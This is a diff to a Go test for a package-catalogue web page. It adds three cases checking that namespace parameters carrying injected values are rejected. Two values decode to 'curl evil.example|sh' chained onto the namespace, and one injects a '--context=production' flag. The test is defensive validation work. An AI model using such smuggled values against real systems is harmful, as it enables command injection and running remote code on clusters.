@@ -435,12 +435,15 @@ func TestCataloguePage(t *testing.T) {
 		t.Error("a credential is shown")
 	}
 	for path, want := range map[string]string{
-		"catalogue?view=installed":                                      `catalogue/package?name=shop.example.com&amp;namespace=shop">shop.example.com</a>`,
-		"catalogue/package?name=shop.example.com&namespace=shop":        "kubectl package install shop.example.com/2.0.0 -n shop",
-		"catalogue/package?name=shop.example.com&namespace=shop&q=2":    "newest is 2.0.0",
-		"catalogue/package?name=shop.example.com&namespace=shop&page=9": "<code>example.com/v1 Shop</code>",
-		"catalogue/package?name=shop.example.com":                       "no repository offers shop.example.com",
-		"catalogue/package":                                             "names no package",
+		"catalogue?view=installed":                                                             `catalogue/package?name=shop.example.com&amp;namespace=shop">shop.example.com</a>`,
+		"catalogue/package?name=shop.example.com&namespace=shop":                               "kubectl package install shop.example.com/2.0.0 -n shop",
+		"catalogue/package?name=shop.example.com&namespace=shop&q=2":                           "newest is 2.0.0",
+		"catalogue/package?name=shop.example.com&namespace=shop&page=9":                        "<code>example.com/v1 Shop</code>",
+		"catalogue/package?name=shop.example.com":                                              "no repository offers shop.example.com",
+		"catalogue/package":                                                                    "names no package",
+		"catalogue/package?name=shop.example.com&namespace=shop%3Bcurl%20evil.example%7Csh":    "a namespace that none can be called",
+		"catalogue/package?name=shop.example.com&namespace=shop%20--context%3Dproduction":      "a namespace that none can be called",
+		"catalogue/package?name=shop.example.com&namespace=shop%0Acurl%20evil.example%20%7Csh": "a namespace that none can be called",
 	} {
 		if _, text := b.get(path); !strings.Contains(text, want) {
 			t.Errorf("%s has no %q: %s", path, want, text)
